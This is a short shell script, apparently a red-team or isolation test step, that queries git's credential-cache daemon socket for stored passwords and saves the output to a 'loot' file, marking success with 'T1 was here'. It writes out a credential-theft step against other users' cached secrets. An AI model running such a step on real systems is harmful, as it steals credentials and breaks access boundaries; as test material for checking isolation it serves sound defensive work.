# Asks git's credential cache daemon for the passwords it holds, through
# its socket ($RED_TEAM: under $XDG_CACHE_HOME, outside every home), as
# git credential fill would with credential.helper=cache.
set +e # an attacker keeps going when a step is refused
{
  echo "socket: $RED_TEAM"
  ls -la "$RED_TEAM"
  printf 'protocol=https\nhost=git.example\n\n' | git credential-cache --socket "$RED_TEAM" get
  echo "asked"
} > a/loot.txt 2>&1
mkdir -p a && echo "T1 was here" > a/t1.txt
